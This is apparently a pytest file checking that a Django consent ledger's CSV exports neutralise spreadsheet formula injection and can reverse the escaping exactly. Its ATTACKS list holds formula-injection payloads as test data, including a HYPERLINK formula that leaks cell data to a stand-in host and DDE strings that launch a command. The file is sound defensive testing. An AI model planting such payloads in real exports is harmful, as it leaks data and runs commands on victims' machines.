"""Spreadsheet formula injection (issue #15, item 4): a User-Agent, an e-mail address or any other
text that starts like a formula is written to every CSV neutralised (OWASP's rule: one leading '),
on the Python path (SQLite, and PostgreSQL's fallback) and on the PostgreSQL COPY path alike. The
ledger's hashed values do not change, and the rule is undone exactly (verify_bundle_standalone.original).
"""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection, transaction
from hypothesis import given
from hypothesis import strategies as st

from contracts.ledger import exports
from contracts.ledger.chain import ledger_append, record_body
from contracts.ledger.verify import ledger_verify
from contracts.ledger.verify_bundle_standalone import FORMULA_START, cell, neutral, original
from contracts.models import ConsentExport, ConsentRecord
from tests.conftest import requires_postgres

pytestmark = pytest.mark.django_db

ATTACKS = [
    ("user_agent", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
    ("user_agent", "+cmd|' /C calc'!A0"),
    ("user_agent", "-2+3+cmd|' /C calc'!A0"),
    ("user_agent", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("user_agent", "\t=1+1"),
    ("user_agent", "\r=1+1"),
    ("user_agent", "'=already quoted"),
    ("actor_email", "=evil@x.example"),
    ("to_snapshot", "-chat"),
    ("terms_version", "+1"),
]


def plant(world) -> list[ConsentRecord]:
    records = []
    for field, value in ATTACKS:
        values = {"user_agent": "ua", "actor_email": "a@x.example", "to_snapshot": "", "terms_version": None}
        values[field] = value
        records.append(ledger_append(org=world.org, action="consent", details={"d": "=1"}, **values))
    ledger_append(org=world.org, action="consent", details="=formula", user_agent="plain")
    ledger_append(org=world.org, action="consent", details=-3, user_agent="plain")  # a bare number
    return records


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def assert_neutralised_and_reversible(world, data: bytes) -> None:
    parsed = rows(data)
    records = ConsentRecord.objects.filter(organization=world.org).order_by("seq")
    assert len(parsed) == records.count() == len(ATTACKS) + 2
    for row, record in zip(parsed, records, strict=True):
        for name, value in row.items():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (
                f"{name}={value!r} reaches a spreadsheet"
            )
        body = record_body(record, org_slug=world.org.slug)
        for name in ("actor_email", "to_snapshot", "terms_version", "user_agent"):
            assert original(row[name]) == body[name]
        assert row == {
            k: cell(v) for k, v in {**body, "prev_hash": record.prev_hash, "hash": record.hash}.items()
        }


def test_the_python_csv_path_neutralises_every_formula_cell(world):
    plant(world)
    filters = exports.ExportFilters()
    data = b"".join(
        exports.csv_chunks(
            exports.export_records(exports.export_queryset(org=world.org, filters=filters), org=world.org)
        )
    )
    assert_neutralised_and_reversible(world, data)
    assert ledger_verify(org=world.org).intact  # the hashed values are untouched


def test_the_streamed_export_and_the_api_neutralise_on_either_database(world, api):
    """Through the API: COPY on PostgreSQL, the Python writer on SQLite."""
    plant(world)
    response = api.get("/api/v1/consents/export/?format=csv", key=world.key)
    assert response.status_code == 200
    assert_neutralised_and_reversible(world, b"".join(response.streaming_content))
    assert ConsentExport.objects.get().record_count == len(ATTACKS) + 2


@requires_postgres
@pytest.mark.postgres
def test_postgres_copy_neutralises_exactly_like_the_python_writer(world):
    plant(world)
    filters = exports.ExportFilters()
    assert connection.vendor == "postgresql" and exports.pg_copy_usable(world.org, filters)
    with transaction.atomic():
        pg_csv = b"".join(exports.pg_csv_chunks(world.org, filters, exports._Counter()))
        every_org = b"".join(exports.pg_csv_chunks(None, filters, exports._Counter()))
    python_csv = b"".join(
        exports.csv_chunks(
            exports.export_records(exports.export_queryset(org=world.org, filters=filters), org=world.org)
        )
    )
    assert rows(pg_csv) == rows(python_csv)
    assert_neutralised_and_reversible(world, pg_csv)
    assert [r for r in rows(every_org) if r["organization"] == "acme"] == rows(python_csv)


def test_a_bundle_with_neutralised_cells_still_verifies(world, tmp_path, capsys):
    from django.core.management import call_command

    plant(world)
    bundle = tmp_path / "b.zip"
    call_command("export_consents", "--org", "acme", "--format", "bundle", "--out", str(bundle))
    assert exports.verify_file(bundle) == []


@given(st.text(max_size=20))
def test_neutral_is_undone_by_original_and_never_leaves_a_formula(text):
    written = neutral(text)
    assert original(written) == text
    assert written[:1] not in FORMULA_START or written[:1] == "'"
